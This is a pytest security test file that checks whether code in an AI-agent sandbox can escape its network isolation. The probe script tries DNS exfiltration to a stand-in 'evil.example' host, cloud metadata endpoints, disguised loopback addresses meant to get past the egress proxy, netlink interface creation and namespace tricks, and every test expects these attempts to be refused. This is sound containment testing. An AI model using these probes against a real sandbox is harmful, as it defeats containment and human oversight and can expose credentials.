"""T13: from inside a cage there is no network, no name, no neighbour and no host; only egressd, which says no."""

import secrets
import socket
import subprocess
from collections.abc import Iterator
from contextlib import ExitStack, contextmanager
from typing import Any

import pytest

from tests.security.inside import ENVIRONMENT, HARNESS_UID, command_inside, run_inside
from tests.support.hive import RunningHive

pytestmark = [pytest.mark.whole, pytest.mark.cage, pytest.mark.root]

PROBE = r"""
def connect(family, address, kind=socket.SOCK_STREAM):
    with socket.socket(family, kind) as s:
        s.settimeout(3)
        s.connect(address)
        if kind == socket.SOCK_DGRAM:
            s.send(b"x")
            if address[0].startswith("127."):
                s.recv(1)
        return "connected"

def egress(host):
    with socket.socket(socket.AF_UNIX) as s:
        s.settimeout(5)
        s.connect("/run/hive/egress/egress.sock")
        s.sendall(f"CONNECT {host} HTTP/1.1\r\nHost: {host}\r\n\r\n".encode())
        return s.recv(4096).decode()

def via_forwarder(host, request=""):
    with socket.create_connection(("127.0.0.1", 3128), 5) as s:
        s.sendall((request or f"CONNECT {host} HTTP/1.1\r\nHost: {host}\r\n\r\n").encode())
        return s.recv(4096).decode()

def add_interface():
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as s:
        name = b"spy\0"
        body = struct.pack("=BxHiII", 0, 0, 0, 0, 0) + struct.pack("=HH", 4 + len(name), 3) + name
        s.send(struct.pack("=IHHII", 16 + len(body), 16, 0x605, 1, 0) + body)
        (answer,) = struct.unpack_from("=i", s.recv(4096), 16)
        if answer:
            raise OSError(-answer, "netlink")
        return "added"

port, listening, next_door, abstract = *map(int, sys.argv[1:4]), sys.argv[4]
hosts = sys.argv[5:]
lines = open("/proc/net/unix").read().splitlines()[1:]
print(json.dumps({
    "interfaces": sorted(name for _, name in socket.if_nameindex()),
    "routes": open("/proc/net/route").read().splitlines()[1:],
    "abstract": [line for line in lines if line.split()[-1].startswith("@")],
    "dns": attempt(lambda: socket.getaddrinfo("example.org", 443)),
    "dns over udp": attempt(lambda: connect(socket.AF_INET, ("192.0.2.53", 53), socket.SOCK_DGRAM)),
    "public": attempt(lambda: connect(socket.AF_INET, ("192.0.2.1", 80))),
    "public, by IPv6": attempt(lambda: connect(socket.AF_INET6, ("2001:db8::1", 80))),
    "metadata": attempt(lambda: connect(socket.AF_INET, ("169.254.169.254", 80), socket.SOCK_DGRAM)),
    "multicast": attempt(lambda: connect(socket.AF_INET, ("224.0.0.251", 5353), socket.SOCK_DGRAM)),
    "dashboard": attempt(lambda: connect(socket.AF_INET, ("127.0.0.1", port))),
    "loopback of the host": attempt(lambda: connect(socket.AF_INET, ("127.0.0.1", listening))),
    "loopback of the host, by IPv6": attempt(lambda: connect(socket.AF_INET6, ("::1", listening))),
    "mapped loopback": attempt(lambda: connect(socket.AF_INET6, ("::ffff:127.0.0.1", listening))),
    "addresses of the host": attempt(lambda: [connect(socket.AF_INET, (host, listening)) for host in hosts]),
    "next door": attempt(lambda: connect(socket.AF_INET, ("127.0.0.1", next_door))),
    "link-local, by IPv6": attempt(lambda: connect(socket.AF_INET6, ("fe80::1", 80, 0, 1))),
    "metadata, by IPv6": attempt(lambda: connect(socket.AF_INET6, ("fd00:ec2::254", 80))),
    "dns over tcp": attempt(lambda: connect(socket.AF_INET, ("192.0.2.53", 53))),
    "dns with data": attempt(lambda: socket.getaddrinfo("c3RvbGVu.evil.example", 53)),
    "dns of the host": attempt(lambda: connect(socket.AF_INET, ("127.0.0.53", 53), socket.SOCK_DGRAM)),
    "abstract socket of the host": attempt(lambda: connect(socket.AF_UNIX, "\0" + abstract)),
    "abstract socket by datagram": attempt(lambda: connect(socket.AF_UNIX, "\0" + abstract, socket.SOCK_DGRAM)),
    "system bus": attempt(lambda: connect(socket.AF_UNIX, "/run/dbus/system_bus_socket")),
    "raw": attempt(lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1).close()),
    "packet": attempt(lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW).close()),
    "vsock": attempt(lambda: socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM).close()),
    "new interface": attempt(add_interface),
    "new namespace": attempt(lambda: call("unshare", 0x50000000)),
    "unlisted": egress("example.org:443"),
    "unlisted, by the forwarder": via_forwarder("example.org:443"),
    "dashboard, by egressd": egress(f"127.0.0.1:{port}"),
    "metadata, by egressd": egress("169.254.169.254:80"),
    "by egressd": {place: egress(place) for place in (
        f"127.0.0.1:{listening}", f"localhost:{listening}", f"[::1]:{listening}", f"[::ffff:127.0.0.1]:{listening}",
        f"[::ffff:7f00:1]:{listening}", f"[64:ff9b::7f00:1]:{listening}", f"0.0.0.0:{listening}",
        f"127.0.0.1:{next_door}", "[fd00:ec2::254]:80", "metadata.google.internal:80", "100.100.100.200:80",
        "192.0.2.53:53",
        "c3RvbGVu.evil.example:443", "c3RvbGVu.evil.example:53", "api.anthropic.com:53", "api.anthropic.com:80",
        "x.api.anthropic.com:443", "api.anthropic.com.evil.example:443",
        *(f"{host}:{listening}" for host in hosts))},
    "in disguise": {place: egress(place) for place in (
        f"127.1:{listening}", f"2130706433:{listening}", f"0x7f000001:{listening}", f"0177.0.0.1:{listening}",
        f"[::1%lo]:{listening}", f"[::1]]:{listening}", f"127.0.0.1:{listening}:443", f"localhost\x00:{listening}",
        "user@api.anthropic.com:443", "api.anthropic.com/:443", "\u2460\u2461\u2466.0.0.1:80")},
    "plain proxy": via_forwarder("", f"GET http://127.0.0.1:{listening}/ HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n"),
    "agents": sorted(os.listdir("/agents")),
    "neighbour": attempt(lambda: os.listdir("/agents/hm1nd/state")),
    "run": sorted(os.listdir("/run/hive")),
    "processes": sorted(int(p) for p in os.listdir("/proc") if p.isdigit()),
    "commands": [open(f"/proc/{p}/cmdline").read().replace("\0", " ") for p in os.listdir("/proc")
                 if p.isdigit() and int(p) != os.getpid()],
    "groups": [place for place, _, _ in os.walk("/sys/fs/cgroup") if "hyperhive" in place],
}))
"""
NOWHERE = [
    "dns", "dns over udp", "dns over tcp", "dns with data", "dns of the host", "public", "public, by IPv6", "metadata",
    "metadata, by IPv6", "link-local, by IPv6", "multicast", "dashboard", "loopback of the host", "mapped loopback",
    "loopback of the host, by IPv6", "addresses of the host", "next door", "abstract socket of the host",
    "abstract socket by datagram", "system bus", "raw", "packet", "vsock", "new interface", "new namespace",
    "neighbour",
]  # fmt: skip
BY_EGRESSD = ["unlisted", "unlisted, by the forwarder", "dashboard, by egressd", "metadata, by egressd"]


LISTENER = """
import socket, sys
with socket.create_server(("127.0.0.1", 0)) as listening:
    print(listening.getsockname()[1], flush=True)
    sys.stdin.read()
"""
"""A program of the agent next door that waits to be called."""


@contextmanager
def reachable_from_outside() -> Iterator[tuple[int, str]]:
    """A port and an abstract socket of the host, which everybody on the host may reach."""
    name = f"hive-t13-{secrets.token_hex(8)}"
    with ExitStack() as open_sockets:
        port_of = open_sockets.enter_context(
            socket.create_server(("::", 0), family=socket.AF_INET6, dualstack_ipv6=True)
        )
        for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
            abstract = open_sockets.enter_context(socket.socket(socket.AF_UNIX, kind))
            abstract.bind(f"\0{name}")
            if kind == socket.SOCK_STREAM:
                abstract.listen()
        port = port_of.getsockname()[1]
        with socket.create_connection(("127.0.0.1", port), 5), socket.create_connection(("::1", port), 5):
            with socket.socket(socket.AF_UNIX) as probe:
                probe.connect(f"\0{name}")
        yield port, name


@contextmanager
def listener_next_door(hive: RunningHive) -> Iterator[int]:
    """A port that the manager's cage listens at."""
    with subprocess.Popen(
        command_inside(hive, "hm1nd", LISTENER),
        stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True, env=ENVIRONMENT,
    ) as running:  # fmt: skip
        assert running.stdout is not None
        yield int(running.stdout.readline())


def addresses() -> list[str]:
    """The host's own addresses that are not loopback."""
    said = subprocess.run(
        ["ip", "-brief", "-4", "address"], capture_output=True, text=True, check=True
    ).stdout
    found = [word.partition("/")[0] for line in said.splitlines() for word in line.split()[2:]]
    return [address for address in found if not address.startswith("127.")] or ["192.0.2.7"]


@pytest.fixture(scope="module", params=["agent", "harness"])
def seen(secure_hive: RunningHive, request: pytest.FixtureRequest) -> dict[str, Any]:
    """What each of the cage's two users can reach. The harness may do no more than the agent."""
    uid = {"agent": 1_000, "harness": HARNESS_UID}[request.param]
    port = secure_hive.base_url.rsplit(":", 1)[1]
    with reachable_from_outside() as (listening, abstract), listener_next_door(secure_hive) as next_door:
        words = (port, str(listening), str(next_door), abstract, *addresses())
        found: dict[str, Any] = run_inside(secure_hive, "iris", PROBE, *words, uid=uid)
    return found


def test_t13_only_loopback(seen: dict[str, Any]) -> None:
    assert seen["interfaces"] == ["lo"]
    assert seen["routes"] == []
    assert seen["abstract"] == []


@pytest.mark.parametrize("way", NOWHERE)
def test_t13_leads_nowhere(seen: dict[str, Any], way: str) -> None:
    assert "refused" in seen[way], seen[way]


@pytest.mark.parametrize("way", BY_EGRESSD)
def test_t13_egressd_says_no(seen: dict[str, Any], way: str) -> None:
    assert seen[way].startswith("HTTP/1.1 403"), seen[way]
    assert "iris may not connect to" in seen[way]


def test_t13_egressd_leads_nowhere_inside_whatever_it_is_called(seen: dict[str, Any]) -> None:
    """Host ports, other cages, metadata, resolvers, names that carry data, and other ports of the one host allowed."""
    assert len(seen["by egressd"]) > 18
    for place, answer in seen["by egressd"].items():
        assert answer.startswith("HTTP/1.1 403"), (place, answer)
    for place, answer in seen["in disguise"].items():
        assert answer.startswith(("HTTP/1.1 400", "HTTP/1.1 403")), (place, answer)
    assert seen["plain proxy"].startswith("HTTP/1.1 405")


def test_t13_nobody_else_is_there(seen: dict[str, Any]) -> None:
    assert seen["agents"] == ["iris"]
    assert seen["run"] == ["broker", "egress"]
    assert seen["groups"] == []
    assert len(seen["processes"]) <= 8
    for command in seen["commands"]:
        assert not any(word in command for word in ("hm1nd", "nspawn", "brokerd", "privd", "webd")), command
